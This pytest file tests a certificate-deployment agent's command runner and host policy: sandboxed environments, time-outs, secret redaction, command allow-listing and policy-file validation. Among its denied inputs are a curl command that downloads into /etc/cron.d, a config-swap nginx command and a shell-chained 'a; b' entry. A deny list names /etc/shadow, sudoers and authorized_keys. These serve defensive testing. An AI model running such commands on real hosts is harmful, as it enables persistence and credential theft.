"""Commands and the host's policy (spec 07 §10)."""

from __future__ import annotations

import os
import signal
import subprocess
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from certctl_core.contracts.options import Command
from certctl_core.deploy import CommandUnavailable, Policy, PolicyDenied, PolicyUnsafe
from certctl_core.deploy.commands import CommandRunner
from certctl_core.kernel.clock import SystemClock
from certctl_core.kernel.secrets import Redactor
from tests.machine import PATIENCE_SECONDS, eventually

Script = Callable[[str], Command]


@pytest.fixture
def script(tmp_path: Path) -> Script:
    """Write a shell script that only we can change."""

    def make(body: str) -> Command:
        path = tmp_path / f"script{len(list(tmp_path.iterdir()))}"
        path.write_text(f"#!/bin/sh\n{body}\n")
        path.chmod(0o700)
        return Command([str(path)])

    return make


def _is_gone(state: Path) -> bool:
    try:
        return state.read_text().rsplit(")", 1)[1].split()[0] == "Z"
    except (FileNotFoundError, ProcessLookupError):
        return True


def _runner(
    *commands: Command, timeout: float = PATIENCE_SECONDS, secret: str = ""
) -> CommandRunner:
    return CommandRunner(
        policy=Policy(),
        built_in=commands,
        redactor=Redactor([secret]),
        clock=SystemClock(),
        timeout=timedelta(seconds=timeout),
    )


@pytest.mark.spec("07/CMD-06", "08/NET-5")
def test_a_command_sees_a_minimal_world(script: Script, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CERTCTL_CANARY", "x")
    command = script('pwd; umask; env | sort; cat; ps -o sid= -p $$ | tr -d " "; echo $$')
    result = _runner(command)(command, env={"STOREPASS": "y"})
    words = result.output.split(" | ")

    assert result.ok
    assert words[:2] == ["/", "0077"]
    assert "STOREPASS=y" in words
    assert "LC_ALL=C" in words
    assert "PATH=/usr/sbin:/usr/bin:/sbin:/bin" in words
    assert "CANARY" not in result.output
    assert words[-1] == words[-2], "a session of its own"


def test_standard_input_is_what_is_given(script: Script) -> None:
    command = script("cat")

    assert _runner(command)(command, stdin=b"hello").output == "hello"


@pytest.mark.spec("07/DEP-10", "08/NET-5")
def test_a_time_out_kills_the_command_and_its_children(
    script: Script, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pid_file = tmp_path / "pid"
    command = script(f"sleep 600 & echo $! > {pid_file}; wait")
    start = subprocess.Popen

    def started(*given: Any, **named: Any) -> subprocess.Popen[bytes]:
        """The time of the command begins to run when its child is there."""
        process = start(*given, **named)
        eventually(lambda: pid_file.exists() and pid_file.read_text().endswith("\n"))
        return process

    monkeypatch.setattr(subprocess, "Popen", started)
    result = _runner(command, timeout=0.2)(command)

    assert result.exit_status is None
    assert not result.ok
    child = int(pid_file.read_text())
    state = Path(f"/proc/{child}/stat")
    # A killed process dies when it is next scheduled; an orphan may then wait for init to be reaped.
    eventually(lambda: _is_gone(state), what="the child is killed, too")


def test_a_daemon_that_stays_behind_does_not_hold_us_up(script: Script, tmp_path: Path) -> None:
    pid_file = tmp_path / "pid"
    command = script(f"sleep 600 & echo $! > {pid_file}; echo started")
    result = _runner(command)(command)
    os.kill(int(pid_file.read_text()), signal.SIGKILL)

    assert result.ok, "it neither waited for the daemon nor ran into the time-out"
    assert result.output == "started"
    assert result.duration < timedelta(seconds=PATIENCE_SECONDS)


@pytest.mark.spec("07/JOB-07", "08/NET-5")
def test_output_is_cut_and_scrubbed(script: Script) -> None:
    command = script(
        "i=0; while [ $i -lt 500 ]; do echo 0123456789; i=$((i+1)); done\n"
        "echo -----BEGIN EC PRIVATE KEY-----; echo AAAABBBB; echo -----END EC PRIVATE KEY-----\n"
        "echo password=hunter2hunter2; echo the reason; exit 3"
    )
    result = _runner(command, secret="hunter2hunter2")(command)

    assert result.exit_status == 3
    assert len(result.output) <= 2048
    assert result.output.endswith("the reason")
    assert "hunter2" not in result.output
    assert "AAAABBBB" not in result.output


@pytest.mark.spec("07/CMD-04")
def test_only_listed_commands_run(script: Script) -> None:
    allowed, other = script("true"), script("true")
    run = _runner(allowed, Command("nginx -t"))

    assert run(allowed).ok
    for command in (
        other,
        Command([*allowed.argv, "more"]),
        Command("nginx -t -c /tmp/evil.conf"),
        Command("curl -o /etc/cron.d/x http://h/"),
    ):
        with pytest.raises(PolicyDenied):
            run(command)


def test_a_prefix_of_the_policy_allows_what_follows(script: Script) -> None:
    command = script("echo $1")
    run = CommandRunner(
        policy=Policy(commands=(command.argv,)),
        built_in=(),
        redactor=Redactor(),
        clock=SystemClock(),
        timeout=timedelta(seconds=PATIENCE_SECONDS),
    )

    assert run(Command([*command.argv, "-s"])).output == "-s"


@pytest.mark.spec("07/CMD-07")
class TestProgram:
    def test_a_plain_name_comes_from_the_fixed_path_only(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        own = tmp_path / "certctl-own-tool"
        own.write_text("#!/bin/sh\n")
        own.chmod(0o755)
        monkeypatch.setenv("PATH", str(tmp_path))
        command = Command("certctl-own-tool")
        with pytest.raises(CommandUnavailable):
            _runner(command)(command)

    @pytest.mark.parametrize("mode", [0o775, 0o757, 0o600])
    def test_a_file_that_others_can_write_or_nobody_can_run_is_refused(
        self, script: Script, mode: int
    ) -> None:
        command = script("true")
        Path(command.argv[0]).chmod(mode)
        with pytest.raises(CommandUnavailable):
            _runner(command).check(command)

    def test_a_file_of_another_user_is_refused(self, script: Script) -> None:
        if os.geteuid() != 0:
            pytest.skip("only root can give a file away")
        command = script("true")
        os.chown(command.argv[0], 65534, 65534)
        with pytest.raises(CommandUnavailable):
            _runner(command)(command)

    def test_a_relative_path_is_refused(self) -> None:
        command = Command("bin/true")
        with pytest.raises(CommandUnavailable):
            _runner(command)(command)


@pytest.mark.spec("07/CMD-05")
class TestPolicy:
    def _load(self, tmp_path: Path, text: str, mode: int = 0o644) -> Policy:
        path = tmp_path / "agent-policy.toml"
        path.write_text(text)
        path.chmod(mode)
        return Policy.load(path)

    @pytest.fixture(autouse=True)
    def _as_root(self) -> None:
        if os.geteuid() != 0:
            pytest.skip("a policy file belongs to root")

    def test_the_file_is_read(self, tmp_path: Path) -> None:
        policy = self._load(
            tmp_path,
            'commands = ["systemctl reload x", ["/opt/a", "-b c"]]\n'
            '[targets]\nallow = ["nginx"]\n[paths]\nwrite = ["/data/tls"]\n',
        )

        policy.check_kind("nginx")
        with pytest.raises(PolicyDenied):
            policy.check_kind("apache")
        policy.check_path("/data/tls/a/cert.pem")
        policy.check_command(("systemctl", "reload", "x"))
        policy.check_command(("/opt/a", "-b c", "d"))
        for path in ("/etc/nginx/cert.pem", "/data/tls", "/data/tlsx/cert.pem"):
            with pytest.raises(PolicyDenied):
                policy.check_path(path)
        assert len(policy.digest) == 64
        assert policy.digest != Policy().digest

    def test_without_a_file_the_defaults_hold(self, tmp_path: Path) -> None:
        policy = Policy.load(tmp_path / "absent.toml")

        assert policy == Policy()
        policy.check_kind("anything")
        policy.check_path("/etc/nginx/tls/cert.pem")

    @pytest.mark.parametrize(
        "path",
        [
            "/etc/cron.d/x",
            "/etc/crontab",
            "/etc/sudoers",
            "/etc/sudoers.d/x",
            "/etc/passwd",
            "/etc/shadow",
            "/" + "root/.ssh/authorized_keys",
            "/" + "home/someone/.ssh/authorized_keys",
            "/boot/grub/x",
            "/proc/sys/kernel/x",
            "/sys/x",
            "/etc/systemd/system/x.service",
            "/usr/lib/systemd/system/x.service",
            "/etc/certctl/agent-policy.toml",
        ],
    )
    def test_some_places_are_closed_whatever_the_file_says(self, path: str) -> None:
        with pytest.raises(PolicyDenied):
            Policy(roots=("/",)).check_path(path)

    @pytest.mark.parametrize("mode", [0o664, 0o646])
    def test_a_file_that_others_can_write_stops_the_agent(self, tmp_path: Path, mode: int) -> None:
        with pytest.raises(PolicyUnsafe):
            self._load(tmp_path, "", mode)

    def test_a_file_of_another_user_stops_the_agent(self, tmp_path: Path) -> None:
        path = tmp_path / "agent-policy.toml"
        path.write_text("")
        os.chown(path, 65534, 65534)
        with pytest.raises(PolicyUnsafe):
            Policy.load(path)

    @pytest.mark.parametrize(
        "text",
        ["[paths", "unknown = 1", '[paths]\nwrite = ["relative"]', 'commands = ["a; b"]'],
        ids=["not_toml", "unknown_key", "relative_root", "shell"],
    )
    def test_a_malformed_file_stops_the_agent(self, tmp_path: Path, text: str) -> None:
        with pytest.raises(PolicyUnsafe):
            self._load(tmp_path, text)

    def test_a_link_is_refused(self, tmp_path: Path) -> None:
        (tmp_path / "real.toml").write_text("")
        (tmp_path / "policy.toml").symlink_to(tmp_path / "real.toml")
        with pytest.raises(PolicyUnsafe):
            Policy.load(tmp_path / "policy.toml")
